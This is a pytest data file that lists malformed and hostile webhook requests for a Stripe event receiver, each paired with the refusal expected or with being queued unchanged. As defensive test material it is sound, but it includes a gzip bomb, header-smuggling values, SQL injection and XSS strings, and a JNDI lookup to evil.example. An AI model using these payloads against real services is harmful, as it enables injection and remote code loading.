"""Bad inputs as requests, by their numbers in docs/bad-inputs.md: inputs that are refused, and inputs that are queued as they came."""

from __future__ import annotations

import gzip
import json
from dataclasses import replace
from typing import Any

import pytest

from receiver.reading import MAX_BODY_BYTES
from tests.support.builders import Shape, customer, deleted_customer, event, event_body, item, subscription
from tests.support.wire import CHUNKED, UNSIGNED, Request, chunk, event_request

OLD_SECRET = "whsec_old_0123456789abcdef0123456789ab"
REMOVED_SECRET = "whsec_removed_0123456789abcdef012345"
BEFORE = event_request("evt_before")  # queued before all others
GOOD = event_request("evt_never")  # each input below changes one thing of it


def refused(id_: str, request: Request | bytes, status: int, code: str) -> Any:
    return pytest.param(request, status, code, id=id_)


def unsigned(id_: str, **changes: Any) -> Any:
    return refused(id_, replace(GOOD, **changes), 400, "signature_invalid")


def malformed_chunks(id_: str, sent: bytes) -> Any:
    request = replace(GOOD, body=sent, length=None, headers=(CHUNKED,), signature=UNSIGNED)
    return refused(id_, request, 400, "body_incomplete")


def malformed(id_: str, body: bytes | str | Any) -> Any:
    whole = body if isinstance(body, bytes) else json.dumps(body).encode()
    return refused(id_, Request(whole), 400, "malformed")


def changed(**fields: Any) -> dict[str, Any]:
    """An event with top-level fields replaced."""
    return {**event("customer.updated", customer()), **fields}


def without(field: str) -> dict[str, Any]:
    return {name: value for name, value in changed().items() if name != field}


def nested(levels: int, *, opening: bytes, closing: bytes) -> bytes:
    """An event with `levels` levels of nesting, counting itself, `data` and `object`."""
    inside = levels - 3
    return event_body("customer.updated", customer(metadata="HERE")).replace(
        b'"HERE"', opening * inside + b"1" + closing * inside
    )


def with_number(number: str) -> bytes:
    """An event whose customer has this balance."""
    return event_body("customer.updated", customer(balance="HERE"), id_="evt_never").replace(
        b'"HERE"', number.encode()
    )


RAW_EVENT = event_body("customer.updated", customer())

HTTP_ROWS = [
    refused("B2-root", replace(GOOD, target="/"), 404, "not_found"),
    refused("B2-two-slashes", replace(GOOD, target="//webhooks/stripe"), 404, "not_found"),
    refused("B2-slash-behind", replace(GOOD, target="/webhooks/stripe/"), 404, "not_found"),
    refused("B2-dots", replace(GOOD, target="/webhooks/%2e%2e/webhooks/stripe"), 404, "not_found"),
    refused("B2-upper-case", replace(GOOD, target="/Webhooks/Stripe"), 404, "not_found"),
    refused("B3-no-type", replace(GOOD, content_type=None), 415, "media_type_unsupported"),
    refused("B3-text", replace(GOOD, content_type="text/plain"), 415, "media_type_unsupported"),
    refused(
        "B3-form",
        replace(GOOD, content_type="application/x-www-form-urlencoded"),
        415,
        "media_type_unsupported",
    ),
    refused(
        "B3-multipart",
        replace(GOOD, content_type="multipart/form-data; boundary=x"),
        415,
        "media_type_unsupported",
    ),
    refused(
        "B4", replace(GOOD, content_type="application/json; charset=utf-16"), 415, "media_type_unsupported"
    ),
    refused("B5-gzip", replace(GOOD, headers=("Content-Encoding: gzip",)), 415, "encoding_unsupported"),
    refused(
        "B5-bomb",
        Request(gzip.compress(bytes(2 * MAX_BODY_BYTES)), headers=("Content-Encoding: gzip",)),
        415,
        "encoding_unsupported",
    ),
    refused(
        "B6",
        Request(
            b"2\r\n{}\r\n0\r\n\r\n",
            length=None,
            headers=("Transfer-Encoding: chunked",),
            signed_body=b"{}",
        ),
        400,
        "malformed",
    ),
    refused(
        "B6-two-codings",
        replace(GOOD, length=None, headers=("Transfer-Encoding: gzip, chunked",)),
        415,
        "encoding_unsupported",
    ),
    refused("B8", replace(GOOD, length=None), 411, "length_required"),
    refused("B9", replace(GOOD, body=b"", length="100000000"), 413, "body_too_large"),
    refused("B10", Request(b" " * (MAX_BODY_BYTES + 1)), 413, "body_too_large"),
    refused("B12-negative", replace(GOOD, length="-1"), 400, "bad_request"),
    refused("B12-plus", replace(GOOD, length="+2"), 400, "bad_request"),
    refused("B12-letters", replace(GOOD, length="abc"), 400, "bad_request"),
    refused("B12-exponent", replace(GOOD, length="1e3"), 400, "bad_request"),
    refused("B12-two-lengths", replace(GOOD, headers=("Content-Length: 5",)), 400, "bad_request"),
    refused("B12-list-of-lengths", replace(GOOD, length="5, 5"), 400, "bad_request"),
    refused("B13", replace(GOOD, headers=("Transfer-Encoding: chunked",)), 400, "bad_request"),
    refused("B13-other-coding", replace(GOOD, headers=("Transfer-Encoding: gzip",)), 400, "bad_request"),
    refused("B13-hidden", replace(GOOD, headers=("Transfer-Encoding: xchunked",)), 400, "bad_request"),
    malformed_chunks("B14-no-size", b"zz\r\n"),
    malformed_chunks("B14-longer-than-its-size", b"2\r\n{}}}0\r\n\r\n"),
    malformed_chunks("B14-bad-trailer", chunk(b"{}") + b"0\r\nBad Name: 1\r\n\r\n"),
    refused("B15-signed", Request(b""), 400, "malformed"),
    refused("B15-unsigned", Request(b"", signature=UNSIGNED), 400, "signature_invalid"),
    refused("B18-9-KB", replace(GOOD, headers=(f"X-Long: {'a' * 9216}",)), 431, "headers_too_large"),
    refused(
        "B18-150", replace(GOOD, headers=tuple(f"X-{n}: a" for n in range(150))), 431, "headers_too_large"
    ),
    refused("B19-long", replace(GOOD, target=f"/webhooks/stripe?{'a' * 5120}"), 414, "uri_too_long"),
    refused("B19-nul", replace(GOOD, target="/webhooks/stripe?a=\0"), 400, "bad_request"),
    refused("B20-rubbish", bytes(range(256)) + b"\r\n\r\n", 400, "bad_request"),
    refused("B21-cr", replace(GOOD, headers=("X-Odd: a\rb",)), 400, "bad_request"),
    refused("B21-lf", replace(GOOD, headers=("X-Odd: a\nX-Even: b",)), 400, "bad_request"),
    refused("B21-folded", replace(GOOD, headers=("X-Odd: a\r\n b",)), 400, "bad_request"),
    refused("B21-nul", replace(GOOD, headers=("X-Odd: a\0b",)), 400, "bad_request"),
]

SIGNATURE_ROWS = [
    unsigned("B24-missing", signature=UNSIGNED),
    unsigned("B24-empty", signature=" "),
    unsigned("B24-two", headers=("Stripe-Signature: t=1,v1=00",)),
    unsigned("B24-two-that-make-one", headers=(f"Stripe-Signature: v1={'0' * 64}",)),
    unsigned("B25-v0", signature="t={t},v0={v1}"),
    unsigned("B25-v9", signature="t={t},v9={v1}"),
    unsigned("B26-other-body", signed_body=b"{}"),
    unsigned("B26-bit-of-the-body", signed_body=GOOD.body.replace(b"evt_never", b"evt_nevez")),
    unsigned("B26-bit-of-t", signature="t=1{t},v1={v1}"),
    unsigned("B26-bit-of-v1", signature=f"t={{t}},v1={'0' * 64}"),
    unsigned("B27-other-endpoint", secret="whsec_ffffffffffffffffffffffffffffffff"),
    unsigned("B27-prefix-cut", secret=BEFORE.secret.removeprefix("whsec_")),
    unsigned("B28-other-spaces", signed_body=json.dumps(json.loads(GOOD.body)).encode()),
    unsigned(
        "B28-other-order", signed_body=json.dumps(json.loads(GOOD.body), indent=2, sort_keys=True).encode()
    ),
    unsigned(
        "B28-other-escapes",
        body=GOOD.body.replace(b"Ada", b"\\u0041da"),
        signed_body=GOOD.body,
    ),
    unsigned("B29-upper-case", signature="t={t},v1={V1}"),
    unsigned("B29-space", signature="t={t},v1= {v1}"),
    unsigned("B29-base64", signature="t={t},v1=qL0p3k7lJ0bGk0y2m0l9b3d5f7h9k1n3p5r7t9v1x3z="),
    unsigned("B29-63", signature="t={t},v1={short}"),
    unsigned("B29-65", signature="t={t},v1={v1}0"),
    unsigned("B30-alone", signature="t={t},v1=\u00e9"),
    unsigned("B30-before-a-good-one", signature="t={t},v1=\u00e9,v1={v1}"),
    refused("B31-1000", replace(GOOD, signature="t={t}" + ",v1={v1}" * 1000), 431, "headers_too_large"),
    unsigned("B31-100", signature="t={t}" + ",v1={v1}" * 100),
    unsigned("B31-11", signature="t={t}" + ",v1={v1}" * 11),
    unsigned("B32-missing", signature="v1={v1}"),
    unsigned("B32-twice", signature="t={t},t={t},v1={v1}"),
    unsigned("B32-empty", signature="t=,v1={v1}"),
    unsigned("B32-letters", signature="t=abc,v1={v1}"),
    unsigned("B32-underscores", signature="t=1_000,v1={v1}"),
    unsigned("B32-plus", signature="t=+{t},v1={v1}"),
    unsigned("B32-space", signature="t= {t},v1={v1}"),
    unsigned("B32-superscript-digits", signature="t=\u00b2\u00b3,v1={v1}"),
    unsigned("B32-5000-digits", signature=f"t={'1' * 5000},v1={{v1}}"),
    unsigned("B32-negative", signature="t=-{t},v1={v1}"),
    unsigned("B32-exponent", signature="t=1e9,v1={v1}"),
    unsigned("B32-hexadecimal", signature="t=0x68e7,v1={v1}"),
    unsigned("B33-301-s-old", age_seconds=301),
    unsigned("B34-302-s-ahead", age_seconds=-302),
    unsigned("B34-ten-years-ahead", age_seconds=-315_360_000),
    unsigned("B35-after-rotation", secret=REMOVED_SECRET),
    unsigned("B36-empty-key", secret=""),
    unsigned("B39", age_seconds=3600),
    unsigned("B40-no-comma", signature="t={t}"),
    unsigned("B40-no-equals", signature="t{t},v1{v1}"),
    unsigned("B40-commas", signature=",,,"),
    unsigned("B40-empty-signature", signature="t={t},v1="),
]

JSON_ROWS = [
    malformed("B41-list", b"[]"),
    malformed("B41-text", b'"x"'),
    malformed("B41-number", b"1"),
    malformed("B41-null", b"null"),
    malformed("B41-true", b"true"),
    malformed("B42-empty", b"{}"),
    malformed("B42-no-id", without("id")),
    malformed("B42-id-null", changed(id=None)),
    malformed("B42-id-number", changed(id=5)),
    malformed("B42-id-empty", changed(id="")),
    malformed("B42-id-10-KB", changed(id="evt_" + "a" * 10_240)),
    malformed("B42-id-customer", changed(id="cus_1")),
    malformed("B42-id-spaces", changed(id="evt_1 2")),
    malformed("B42-id-path", changed(id="evt_../../x")),
    malformed("B42-id-newline", changed(id="evt_1\n")),
    malformed("B42-no-type", without("type")),
    malformed("B43-cut", RAW_EVENT[:-10]),
    malformed("B43-trailing", RAW_EVENT + b"x"),
    malformed("B43-two", RAW_EVENT + RAW_EVENT),
    malformed("B43-comment", RAW_EVENT + b"// x"),
    malformed("B43-single-quotes", RAW_EVENT.replace(b'"', b"'")),
    malformed("B43-trailing-comma", RAW_EVENT.rstrip(b"}\n") + b",}"),
    malformed("B44-bom", b"\xef\xbb\xbf" + RAW_EVENT),
    malformed("B44-utf-16", RAW_EVENT.decode().encode("utf-16")),
    malformed("B44-ff-fe", RAW_EVENT.replace(b"Ada", b"\xff\xfe")),
    malformed("B44-overlong-nul", RAW_EVENT.replace(b"Ada", b"\xc0\x80")),
    malformed("B45-nan", with_number("NaN")),
    malformed("B45-infinity", with_number("Infinity")),
    malformed("B45-minus-infinity", with_number("-Infinity")),
    malformed("B47-65-objects", nested(65, opening=b'{"a":', closing=b"}")),
    malformed("B47-65-lists", nested(65, opening=b"[", closing=b"]")),
    malformed("B47-1000", nested(1000, opening=b'{"a":', closing=b"}")),
    malformed("B47-100000-objects", nested(100_000, opening=b'{"a":', closing=b"}")),
    malformed("B47-100000-lists", nested(100_000, opening=b"[", closing=b"]")),
    malformed("B47-100000-unclosed", b"[" * 100_000),
    malformed("B48-20-digits", with_number("1" * 20)),
    malformed("B48-5000-digits", with_number("1" * 5000)),
    malformed("B48-1000000-digits", with_number("1" * 1_000_000)),
    malformed(
        "B49-created-1e400",
        RAW_EVENT.replace(b'"created": 1760000000,\n  "data"', b'"created": 1e400,\n  "data"'),
    ),
    malformed("B49-created-minus-0", changed(created=-0)),
    malformed("B51-id", changed(id="evt_\0")),
    malformed("B52-id", changed(id="evt_\ud800")),
    malformed("B62-0", changed(created=0)),
    malformed("B62-negative", changed(created=-1)),
    malformed("B62-year-9999", changed(created=253_370_764_800)),
    malformed("B62-float", changed(created=1_760_000_000.5)),
    malformed("B62-text", changed(created="1760000000")),
    malformed("B62-true", changed(created=True)),
    malformed("B63-no-data", without("data")),
    malformed("B63-list", changed(data={"object": []})),
    malformed("B63-null", changed(data={"object": None})),
    malformed("B63-text", changed(data={"object": "cus_1"})),
    malformed("B63-no-id", changed(data={"object": {"object": "customer"}})),
    malformed("B63-id-number", changed(data={"object": {"id": 1}})),
    refused(
        "B59",
        Request(
            b'{"id": "evt_1", "object": "v2.core.event", "type": "v1.customer.updated", "created": "2026-01-01"}'
        ),
        400,
        "thin_event_unsupported",
    ),
]


def queued(
    row: str, type_: str, object_: Any, *, swap: tuple[bytes, bytes] = (b"", b""), **fields: Any
) -> Any:
    """A row that is queued as it came; `swap` puts in bytes that no JSON writer would write."""
    id_ = f"evt_{row.lower().replace('-', '_')}"
    body = event_body(type_, object_, id_=id_, **fields).replace(*swap)
    return pytest.param(id_, body, id=row)


def updated(row: str, *, swap: tuple[bytes, bytes] = (b"", b""), **fields: Any) -> Any:
    return queued(row, "customer.updated", customer(**fields), swap=swap)


HERE = b'"HERE"'
MANY_KEYS = {f"key_{number}": "x" for number in range(10_000)}

QUEUED_ROWS = [
    updated(
        "B46-top", swap=(b'"livemode": false,\n  "pending', b'"livemode": true, "livemode": false, "pending')
    ),
    updated("B46-object", name="HERE", swap=(HERE, b'"Ada", "name": "Eve"')),
    updated("B46-metadata", metadata="HERE", swap=(HERE, b'{"a": "1", "a": "2"}')),
    updated("B47-64-lists", metadata="HERE", swap=(HERE, b"[" * 61 + b"]" * 61)),
    updated("B49-1e400", balance="HERE", swap=(HERE, b"1e400")),
    updated("B49-1e200000", balance="HERE", swap=(HERE, b"1e200000")),
    updated("B49-tiny", balance="HERE", swap=(HERE, b"1e-400")),
    updated("B49-minus-0", balance="HERE", swap=(HERE, b"-0")),
    updated("B50-in-metadata", metadata="HERE", swap=(HERE, b"[" + b"{}," * 300_000 + b"{}]")),
    updated("B51-name", name="A\0da"),
    updated("B51-email", email="a\0@example.com"),
    updated("B51-metadata-key", metadata={"a\0": "1"}),
    updated("B51-metadata-value", metadata={"a": "\0"}),
    updated("B52-name", name="A\ud800da"),
    updated("B52-email", email="a\udfff@example.com"),
    updated("B52-metadata-key", metadata={"a\ud800": "1"}),
    updated("B52-metadata-value", metadata={"a": "\udc00\ud800"}),
    updated("B53-controls", name="\x01\x1f\x7f\x9b"),
    updated("B53-override", name="\u202egnp.exe"),
    updated("B53-zero-width", name="A\u200bda\ufeff"),
    updated("B53-emoji-raw", name="HERE", swap=(HERE, '"\U0001f600"'.encode())),
    updated("B54-10-KB", email="a" * 10_240 + "@example.com"),
    updated("B54-no-at", email="ada"),
    updated("B54-upper-case", email="ADA@EXAMPLE.COM"),
    updated("B54-idn", email="ada@b\u00fccher.example"),
    updated("B54-newline", email="ada@example.com\nBcc: eve@example.com"),
    updated("B54-script", email='"<script>alert(1)</script>"@example.com'),
    updated(
        "B55",
        name="'; DROP TABLE users;--",
        email="'; DROP TABLE users;--@example.com",
        metadata={"'; DROP TABLE users;--": "'; DROP TABLE users;--"},
    ),
    updated("B56-proto", metadata={"__proto__": "x", "constructor": "x", "": "x"}),
    updated("B56-10000-keys", metadata=MANY_KEYS),
    updated("B57", name="{{7*7}} ${jndi:ldap://evil.example} %s%n \x1b[31m"),
    queued("B64", "customer.updated", {"id": "ch_1", "object": "charge"}),
    queued("B64-subscription", "customer.subscription.updated", customer()),
    queued(
        "B65-unknown-version",
        "customer.subscription.updated",
        subscription(),
        api_version="2031-01-01.zircon",
    ),
    queued("B65-no-version", "customer.subscription.updated", subscription(), api_version=None),
    queued("B65-old-period", "customer.subscription.updated", subscription(shape=Shape.LEGACY)),
    queued("B66", "customer.subscription.created", subscription(customer="cus_unknown")),
    queued("B66-without-customer", "customer.subscription.created", subscription(customer=None)),
    queued("B67-first", "customer.created", customer("cus_b67_1", email="same@example.com")),
    queued("B67-second", "customer.created", customer("cus_b67_2", email="same@example.com")),
    updated("B68", email=None),
    queued("B69", "customer.subscription.updated", subscription(status="frobnicated")),
    queued("B70-newer", "customer.updated", customer("cus_b70"), created=1_760_000_010),
    queued("B70-older", "customer.updated", customer("cus_b70"), created=1_760_000_000),
    queued("B70-deleted", "customer.deleted", deleted_customer("cus_b70"), created=1_760_000_020),
    queued("B70-created", "customer.created", customer("cus_b70"), created=1_750_000_000),
    queued("B71-one", "customer.updated", customer("cus_b71", name="Ada")),
    queued("B71-other", "customer.updated", customer("cus_b71", name="Eve")),
    queued("B74", "customer.subscription.updated", subscription(customer="cus_other")),
    queued("B74-items", "customer.subscription.updated", subscription(items=[item("si_1"), item("si_2")])),
    queued("B75-deleted", "customer.deleted", deleted_customer("cus_b75")),
    queued("B75-later", "customer.updated", customer("cus_b75")),
]
